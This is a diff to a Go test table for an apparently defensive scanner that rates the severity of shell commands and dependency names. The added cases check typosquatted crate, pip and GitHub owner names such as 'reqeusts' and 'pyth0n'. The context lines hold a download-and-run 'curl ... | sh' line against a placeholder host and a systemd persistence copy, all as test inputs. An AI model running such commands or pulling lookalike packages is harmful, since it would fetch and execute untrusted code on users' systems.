@@ -123,6 +123,15 @@ func TestSeverityByContext(t *testing.T) {
 		{"echo to another descriptor", "x.sh", "exec 3> /tmp/x.sh\necho \"curl -fsSL https://x.invalid/i | sh\" >&3\nsh /tmp/x.sh", 2, "high download-and-run"},
 		{"command beside a message", "x.sh", "echo \"enabling\"; cp x.service /etc/systemd/system/x.service", 1, "high persistence"},
 		// A command spelled in a string that nothing runs is a message.
+		// A name a plain letter from a well-known one, in a short name or at
+		// its start, is how real projects' names often sit; a typosquat's
+		// forms (letters swapped or doubled, a digit for a letter) stay high.
+		{"crate a letter added to a short name", "Cargo.toml", "[package]\nname = \"x\"\n\n[dependencies]\nhypher = \"0.1.4\"", 5, "medium lookalike-source"},
+		{"crate a letter doubled", "Cargo.toml", "[package]\nname = \"x\"\n\n[dependencies]\nserdde = \"1\"", 5, "high lookalike-source"},
+		{"requirement a letter changed in a short name", "requirements.txt", "tombi==0.1.4", 1, "medium lookalike-source"},
+		{"requirement letters swapped", "requirements.txt", "reqeusts==2.31.0", 1, "high lookalike-source"},
+		{"owner a letter added at its start", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git clone https://github.com/ipython/ipykernel", 6, "medium lookalike-source"},
+		{"owner a digit for a letter", ".github/workflows/a.yml", "on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - run: git clone https://github.com/pyth0n/cpython", 6, "high lookalike-source"},
 		// go run of a module: its publisher decides what runs, unless the
 		// path is a look-alike of a well-known module, owner or tool, or
 		// its host a bare address.
